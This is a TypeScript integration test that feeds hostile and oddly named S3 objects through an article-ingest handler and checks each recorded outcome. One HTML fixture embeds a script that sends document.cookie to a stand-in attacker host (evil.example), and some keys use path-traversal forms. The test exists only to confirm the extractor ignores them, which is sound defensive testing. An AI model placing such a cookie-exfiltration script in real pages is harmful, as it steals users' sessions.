/**
 * Hostile objects and keys through the real handler (local S3 server + DynamoDB Local), all in one
 * SQS batch beside good articles: each gets its recorded outcome, the handler never throws, and only
 * a message that is not an S3 notification at all is handed back for retry. Extraction time over
 * growing inputs is measured by `npm run bench` (bench/scaling.ts), not asserted here.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { S3Event } from "aws-lambda";
import { startLocalServices, type LocalServices } from "../support/local-services.ts";
import { sqsBatch, sqsRecord } from "../support/events.ts";
import { ingestRig, type IngestRig } from "./support/rig.ts";

const GOOD = `\u201cThe harbour will reopen on Friday,\u201d Ines Albarran said. The harbour master said the dredging had finished early.`;
const enc = (s: string) => new TextEncoder().encode(s);
const utf16le = (s: string) => new Uint8Array(Buffer.from(`\ufeff${s}`, "utf16le"));
const utf16be = (s: string) => new Uint8Array([0xfe, 0xff, ...Buffer.from(s, "utf16le").swap16()]);
const MB = 1024 * 1024;

/** [key, body, expected status, expected reason or claim check] */
const HOSTILE: readonly [key: string, body: () => Uint8Array, status: "processed" | "failed", expectation: string | ((claims: string[]) => void)][] = [
  ["hostile/empty.txt", () => new Uint8Array(), "failed", "empty"],
  ["hostile/whitespace.txt", () => enc(" \n\t\n "), "failed", "empty"],
  ["hostile/binary.txt", () => new Uint8Array(Array.from({ length: 64 * 1024 }, (_, i) => (i * 7919) % 256)), "failed", "binary"],
  ["hostile/invalid-utf8.txt", () => new Uint8Array([...enc(GOOD), 0xff, 0xfe, 0xc3, 0x28]), "failed", "undecodable"],
  ["hostile/utf16le-bom.txt", () => utf16le(GOOD), "processed", (c) => expect(c.join("\n")).toContain("dredging had finished early")],
  ["hostile/utf16be-bom.txt", () => utf16be(GOOD), "processed", (c) => expect(c.join("\n")).toContain("dredging had finished early")],
  ["hostile/20mb.txt", () => enc(`${GOOD} `.repeat(Math.ceil((20 * MB) / (GOOD.length + 1)))), "failed", "too-large"],
  ["hostile/one-1mb-line.txt", () => enc("word ".repeat(MB / 5)), "processed", (c) => expect(c).toEqual([])],
  [
    "hostile/nested-100k.html",
    () => enc(`<html><body>${"<div>".repeat(100_000)}<p>${GOOD}</p>${"</div>".repeat(100_000)}</body></html>`),
    "processed",
    (c) => expect(c.join("\n")).toContain("dredging had finished early"),
  ],
  [
    "hostile/scripts.html",
    () =>
      enc(
        `<html><head><script>var q = "\\u201cThe vote was rigged,\\u201d the minister said."; fetch("https://evil.example/"+document.cookie)</script></head>` +
          `<body><script type="module">document.write("<p>\\"Lies,\\" Ines Albarran said.</p>")</script><p>${GOOD}</p><style>p::after{content:"\\"x,\\" y said."}</style></body></html>`,
      ),
    "processed",
    (c) => {
      expect(c.join("\n")).toContain("dredging had finished early");
      expect(c.join("\n")).not.toMatch(/rigged|Lies|evil|x,/);
    },
  ],
  ["hostile/10000-quotes.txt", () => enc('"'.repeat(10_000)), "processed", (c) => expect(c).toEqual([])],
  // What the extractor makes of the storm is its own business; it must finish, and store what it finds.
  ["hostile/quote-storm.txt", () => enc(`${'"a," b said. '.repeat(3_000)}${GOOD}`), "processed", (c) => expect(c.length).toBeGreaterThan(0)],
];

/** Keys that need encoding in events and URLs; each holds a good article. */
const ODD_KEYS = ["odd/with space.txt", "odd/a+b=c&d.txt", "odd/50% off?.txt", "odd/ünïcödé 日本語 🙂.txt", "odd/../escape.txt", "odd/./dot/../x.txt", "odd/#hash;semi'quote\".txt"];

let env: LocalServices;
let r: IngestRig;
const events: S3Event[] = [];
beforeAll(async () => {
  env = await startLocalServices();
  r = await ingestRig(env);
});
afterAll(async () => {
  await r?.stop();
  await env?.stop();
});

describe("hostile input through the ingest handler", { timeout: 180_000 }, () => {
  it("one batch of poison objects, odd keys, a non-S3 message and good articles: every object gets its outcome, nothing blocks the rest", async () => {
    for (const [key, body] of HOSTILE) events.push(await r.put(key, body()));
    // Too large to extract: its expected state is "no claims", checked below, not offline extraction.
    r.expected.delete("hostile/20mb.txt");
    for (const key of ODD_KEYS) events.push(await r.put(key, GOOD));
    events.push(await r.put("good/plain.txt", GOOD));

    const batch = sqsBatch(events);
    const notS3 = sqsRecord("this is not an S3 notification");
    batch.Records.splice(3, 0, notS3);
    const started = performance.now();
    const result = await r.handler(batch);
    const seconds = (performance.now() - started) / 1000;
    console.log(`hostile batch of ${batch.Records.length} messages handled in ${seconds.toFixed(1)} s`);

    expect(result.batchItemFailures).toEqual([{ itemIdentifier: notS3.messageId }]);
    // The event's size alone turned the 20 MB object away: it was never requested.
    expect(r.objects.reads).not.toContain("hostile/20mb.txt");
    for (const [key, , status, expectation] of HOSTILE) {
      const article = await r.reader.getArticle(key);
      expect(article?.status, key).toBe(status);
      const contents = (await r.reader.listArticleClaims(key)).map((c) => c.content);
      if (typeof expectation === "string") {
        expect(article?.errorReason, key).toBe(expectation);
        expect(article?.errorMessage, key).toMatch(/\w{3,}/);
        expect(contents, key).toEqual([]);
      } else {
        expectation(contents);
      }
    }
    for (const key of [...ODD_KEYS, "good/plain.txt"]) {
      expect((await r.reader.getArticle(key))?.status, key).toBe("processed");
      expect((await r.reader.listArticleClaims(key)).every((c) => c.articleKey === key), key).toBe(true);
    }
    // Everything else is exactly what offline extraction finds in the same bytes.
    await r.expectExact({ deep: true });
  });

  it("the handler is still healthy afterwards: a redelivery of the whole batch changes nothing", async () => {
    const before = await r.reader.listSpeakers({ limit: 100 });
    const again = await r.handler(sqsBatch(events));
    expect(again.batchItemFailures).toEqual([]);
    expect(await r.reader.listSpeakers({ limit: 100 })).toEqual(before);
    await r.expectExact({ deep: true });
  });
});
